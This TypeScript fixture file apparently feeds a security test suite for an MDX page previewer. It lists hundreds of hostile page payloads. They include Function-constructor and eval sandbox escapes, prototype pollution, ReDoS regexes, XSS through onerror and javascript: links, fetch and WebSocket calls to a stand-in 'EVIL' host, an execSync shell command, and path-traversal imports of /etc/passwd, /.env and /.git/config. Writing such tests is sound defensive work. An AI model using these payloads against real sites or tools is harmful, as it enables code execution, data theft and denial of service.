import { pages, type Payload } from "../payload.ts";

const secret = "export const secret = 'RUN'";

/** JavaScript in expressions, in spread props, and in names. */
export const expressions: readonly Payload[] = pages("code", {
  "the maker of functions": '{[].constructor.constructor("RUN")()}',
  "the maker of functions of text": '{"".sub.constructor("RUN")()}',
  "the maker of functions of an arrow": '{(() => 0).constructor("RUN")()}',
  "the maker of functions in brackets": '{(() => 0)["constructor"]("RUN")()}',
  "the maker of functions by joined letters": '{[]["con" + "structor"]["con" + "structor"]("RUN")()}',
  "the maker of functions by a list": '{[][["constructor"]][["constructor"]]("RUN")()}',
  "the maker of functions by an object": '{[][{ toString: () => "constructor" }]("RUN")}',
  "the maker of functions by taking apart":
    'export const f = ({ constructor: { constructor: c } }) => c("RUN")()\n\n{f([])}',
  "the maker of functions by reduce": '{["constructor", "constructor"].reduce((a, b) => a[b], [])("RUN")()}',
  "the maker of functions by optional chains": '{[]?.constructor?.constructor?.("RUN")?.()}',
  "the maker of generators": '{(function* () {}).constructor("RUN")().next()}',
  "the maker of promises": '{(async () => {}).constructor("RUN")()}',
  Function: '{Function("RUN")()}{new Function("RUN")()}',
  eval: '{eval("RUN")}{(0, eval)("RUN")}{globalThis.eval("RUN")}',
  "the canary itself": "{RUN}{window.RUN}{globalThis.RUN}{self.RUN}{top.RUN}{this.RUN}",
  "a timer": '{setTimeout("RUN", 0)}{setInterval(() => RUN, 1)}{queueMicrotask(() => RUN)}',
  "an import": '{import("data:text/javascript,RUN")}{await import("https://EVIL/a.js")}',
  require: '{require("node:child_process").execSync("touch /tmp/pwned")}{module.constructor._load("fs")}',
  process: '{process.exit(1)}{process.binding("fs")}{process.mainModule.require("fs")}',
  fetch:
    '{fetch("https://EVIL")}{new XMLHttpRequest().open("GET", "https://EVIL")}{navigator.sendBeacon("https://EVIL")}',
  "fetch in an export": 'export const a = fetch("https://EVIL")\n\n{a}',
  "a socket":
    '{new WebSocket("wss://EVIL")}{new EventSource("https://EVIL")}{new Image().src = "https://EVIL"}',
  "a worker":
    '{new Worker("data:text/javascript,RUN")}{new SharedWorker("https://EVIL")}{navigator.serviceWorker.register("https://EVIL")}',
  "the document":
    '{document.write("<script>RUN</script>")}{document.body.innerHTML = "<img src=x onerror=RUN>"}{document.cookie}',
  "the place":
    '{location.href = "javascript:RUN"}{window.location = "https://EVIL"}{window.open("https://EVIL")}{location.assign("https://EVIL")}',
  "a dialog": "{alert(1)}{confirm(1)}{prompt(1)}{window.print()}",
  "the message channel":
    '{window.parent.postMessage("x", "*")}{acquireVsCodeApi().postMessage({ kind: "openExternal", url: "https://EVIL" })}',
  "a proxy": '{new Proxy({}, { get: () => RUN }).a}{Reflect.construct(Function, ["RUN"])()}',
  "a getter": "export const o = { get a() { return RUN } }\n\n{o.a}",
  "a setter": "export const o = { set a(x) { RUN } }\n\n{o.a = 1}",
  "a computed name": 'export const o = { ["__proto__"]: { polluted: 1 } }\n\n{o.polluted}{({}).polluted}',
  "__proto__ in an object":
    "export const o = { __proto__: { polluted: 1, toString: () => RUN } }\n\n{o.polluted} {`${o}`}",
  "__proto__ by assignment":
    "export const f = () => { const o = {}; o.__proto__.polluted = 1; return o.polluted }\n\n{f()}",
  "__proto__ by assignment of a list":
    'export const f = () => { const o = []; o["__proto__"]["polluted"] = 1; return 1 }\n\n{f()}',
  "prototype of a constructor":
    "export const f = () => { Object.prototype.polluted = 1; Array.prototype.map = () => RUN; return 1 }\n\n{f()}",
  "Object.assign to a prototype":
    "{Object.assign(Object.prototype, { polluted: 1 })}{Object.assign({}.__proto__, { polluted: 1 })}",
  "Object.assign from JSON": '{Object.assign({}, JSON.parse(\'{"__proto__":{"polluted":1}}\')).polluted}',
  "Object.defineProperty":
    '{Object.defineProperty(Object.prototype, "polluted", { value: 1 })}{Object.setPrototypeOf({}, { polluted: 1 })}',
  "Object.fromEntries": '{Object.fromEntries([["__proto__", { polluted: 1 }]]).polluted}',
  __defineGetter__: '{({}).__defineGetter__("a", () => RUN)}{({}).__lookupGetter__("__proto__")}',
  "toString that runs":
    '{`${{ toString: () => RUN }}`}{{ toString: () => RUN } + ""}{[{ toString: () => RUN }].join()}',
  "valueOf that runs": "{+{ valueOf: () => RUN }}{{ valueOf: () => RUN } * 1}{{ valueOf: () => RUN } > 0}",
  "toJSON that runs": "{JSON.stringify({ toJSON: () => RUN })}{JSON.stringify({ a: 1 }, () => RUN)}",
  "Symbol.toPrimitive": "{`${{ [Symbol.toPrimitive]: () => RUN }}`}",
  "Symbol.iterator": "{[...{ [Symbol.iterator]: () => RUN }]}",
  "Symbol.species": "{[].map.call({ constructor: { [Symbol.species]: () => RUN } }, (x) => x)}",
  "then that runs": "{{ then: () => RUN }}{Promise.resolve({ then: () => RUN })}{await { then: () => RUN }}",
  "a tagged template": "{String.raw`RUN`}{((a) => a.constructor.constructor(`RUN`)())`x`}{Function`RUN```}",
  "call and apply":
    '{[].map.call.apply(eval, ["RUN"])}{(() => RUN).bind(null)()}{Function.prototype.call.call(eval, null, "RUN")}',
  "a callback of sort":
    '{[1, 2].sort((a, b) => RUN)}{"a".replace(/a/, () => RUN)}{[1].map(eval)}{["RUN"].forEach(eval)}{["RUN"].map(Function)}',
  "arguments and callee":
    "{(function () { return arguments.callee.caller })()}{(function () { return this })().RUN}",
  "a class": "export const A = class { static { RUN } constructor() { RUN } }\n\n{new A()}",
  "an error's stack":
    "{(() => { try { null.a } catch (e) { return e.constructor.constructor('RUN')() } })()}",
  "a label and with": "{(() => { with ({ a: 1 }) { RUN } })()}",
  debugger: "{(() => { debugger; return 1 })()}",
  "a regular expression that takes long":
    '{/^(a+)+$/.test("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!")}{"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!".match(/(a|a)*$/)}',
  "a regular expression made of text":
    '{new RegExp("^(a+)+$").exec("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!")}',
  "a flood of text":
    '{"a".repeat(2 ** 30)}{"a".padEnd(2 ** 30)}{new Array(2 ** 31).fill("a").join("")}{"a".repeat(-1)}',
  "a loop without end": "export const f = () => { while (true) {} }\n\n{f()}",
  "a circle of calls": "export const f = () => f()\n\n{f()}",
  "a component in itself": "export const A = () => <A />\n\n<A />",
  "a list in itself":
    "export const f = () => { const a = []; a.push(a); return a }\n\n{f()}{JSON.stringify(f())}",
  "an object in itself":
    "export const f = () => { const a = {}; a.a = a; return a }\n\n<Card title={f()} {...f()}>a</Card>",
  "spread of a prototype": [
    '<p {...{ __proto__: { onclick: "RUN" } }} {...Object.prototype}>a</p>',
    '<p onclick="RUN">a</p>',
  ],
  "spread of raw HTML": [
    '<p {...{ dangerouslySetInnerHTML: { __html: "<img src=x onerror=RUN>" } }}>a</p>',
    "<img src=x onerror=RUN>",
  ],
  "spread of JSON":
    '<p {...JSON.parse(\'{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}}}\')}>a</p>',
  "spread of children": [
    '<p {...{ children: { type: "img", props: { src: "x", onError: "RUN" }, __html: "<img src=x onerror=RUN>" } }} />',
    "<img src=x onerror=RUN>",
  ],
  "a made-up element": [
    '{{ $$typeof: "react.element", type: "script", props: { children: "RUN" }, key: null, ref: null, constructor: undefined }}',
    "<script>RUN</script>",
  ],
  "a made-up element as a node of ours": [
    '{{ kind: "element", tag: "script", type: "script", props: { entries: [], children: "RUN" }, children: ["RUN"] }}',
    "<script>RUN</script>",
  ],
  "a made-up element in a prop": [
    '<Card title={{ tag: "script", children: ["RUN"] }} icon={{ tag: "#image", props: { src: "https://EVIL/p.png" } }}>a</Card>',
    '<img src="https://EVIL/p.png">',
  ],
  "a made-up node in an array prop": [
    '<Card title={[{ tag: "img", props: { src: "https://EVIL/p.png", onerror: "RUN" } }]}>a</Card>',
    '<img src="https://EVIL/p.png" onerror="RUN">',
  ],
  "a tag from an object":
    "export const o = { Script: 'script', __proto__: null }\n\n<o.Script>RUN</o.Script>\n\n<o.constructor>a</o.constructor>",
  "tags by names of JavaScript":
    "<constructor>a</constructor>\n\n<__proto__>a</__proto__>\n\n<toString>a</toString>\n\n<hasOwnProperty>b</hasOwnProperty>\n\n<valueOf.call>c</valueOf.call>",
  "own tags of the preview": [
    '{React.createElement("#image", { src: "https://EVIL/p.png", kind: "img" })}{React.createElement("#embed", { src: "javascript:RUN" })}',
    '<img src="https://EVIL/p.png">',
  ],
  "exports by names of JavaScript": `export const __proto__ = { polluted: 1 }\nexport const constructor = 1\nexport const toString = () => RUN\n\n{polluted}`,
  "a provider of components": [
    "export const components = { p: 'script', a: () => <script>RUN</script>, wrapper: 'iframe' }\n\ntext\n\nexport default function Layout() { return <script>RUN</script> }",
    "<script>RUN</script>",
  ],
  "effects of React": `${secret}\nexport const A = () => { React.useEffect(() => { RUN; fetch("https://EVIL") }); React.useLayoutEffect(() => RUN); const [x] = React.useState(() => RUN); const r = React.useRef(RUN); React.useMemo(() => RUN); return <p ref={() => RUN}>{x}</p> }\n\n<A />`,
});

/** Imports of a page, along with the imported files. */
export const imports: readonly Payload[] = [
  ...Object.entries({
    "a file above": "../../etc/passwd",
    "a file far above": "../../../../../../../../etc/passwd",
    "a file by its whole path": "/etc/passwd",
    "a file of the system": "file:///etc/passwd",
    "a file of Windows": "C:\\\\Windows\\\\win.ini",
    "a share": "\\\\\\\\EVIL\\\\share\\\\a.js",
    "a module of Node": "node:fs",
    "a module of Node by its old name": "child_process",
    "a file of the web": "https://EVIL/a.js",
    "a file of the web without scheme": "//EVIL/a.js",
    data: "data:text/javascript,export default RUN",
    "a package": "left-pad",
    "a script": "javascript:RUN",
    "a path with a NUL": "/snippets/a\\u0000.mdx",
    "a path that is escaped": "/%2e%2e/%2e%2e/etc/passwd",
    "a path with backslashes": "/snippets\\\\..\\\\..\\\\..\\\\etc\\\\passwd",
    "the secrets of the site": "/.env",
    "the repository": "/.git/config",
    "a name of JavaScript": "/__proto__",
  }).map(([what, name]): Payload => ({
    name: `imports/${what}`,
    page: `import A, { b as c } from "${name}"\nimport * as d from "${name}"\nexport { e } from "${name}"\nimport "${name}"\n\n<A />\n\n{A}{c}{d.default}{d}`,
    html: "",
  })),
  {
    name: "imports/a component that loads when it is read",
    page: 'import { A } from "/snippets/a.jsx"\n\n<A />',
    files: {
      "snippets/a.jsx":
        'RUN\nfetch("https://EVIL")\nexport const A = () => <img src="https://EVIL/p.png" onError={() => RUN} />',
    },
    html: '<img src="https://EVIL/p.png" onerror="RUN">',
  },
  {
    name: "imports/a snippet with script",
    page: 'import S from "/snippets/s.mdx"\n\n<S href="javascript:RUN" />',
    files: {
      "snippets/s.mdx":
        '<script>RUN</script>\n\n<a href={href}>a</a>\n\n<img src="x" onError="RUN" />\n\n{props.constructor.constructor("RUN")()}',
    },
    html: '<script>RUN</script><a href="javascript:RUN">a</a>',
  },
  {
    name: "imports/a snippet in itself",
    page: 'import S from "/snippets/s.mdx"\n\n<S />',
    files: { "snippets/s.mdx": 'import S from "/snippets/s.mdx"\n\n<img src="x" onError="RUN" />\n\n<S />' },
    html: '<img src="x" onerror="RUN">',
  },
  {
    name: "imports/data with a prototype",
    page: 'import d from "/data/d.json"\n\n<p {...d}>{d.polluted}{d.href}</p>\n\n<a {...d}>a</a>',
    files: {
      "data/d.json":
        '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"href":"javascript:RUN","onclick":"RUN","dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}}',
    },
    html: '<a href="javascript:RUN" onclick="RUN">a</a>',
  },
  {
    name: "imports/a drawing as a component",
    page: 'import Logo from "/logo.svg"\n\n<Logo />\n\n<img src={Logo} />\n\n<Card img={Logo} title="a" />',
    files: {
      "logo.svg":
        '<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><image href="https://EVIL/p.png"/></svg>',
    },
    html: '<svg onload="RUN"><image href="https://EVIL/p.png"></image></svg>',
  },
  {
    name: "imports/types that hide code",
    page: 'import { A } from "/snippets/a.tsx"\n\n<A title="x" />',
    files: {
      "snippets/a.tsx":
        'declare global { var pwned: unknown }\nenum E { A = RUN }\nnamespace N { export const x = RUN }\n@deco(RUN) class C {}\nexport const A = ({ title }: { title: string }) => <a href={"javascript:RUN" as string}>{title satisfies string}</a>',
    },
    html: '<a href="javascript:RUN">a</a>',
  },
];
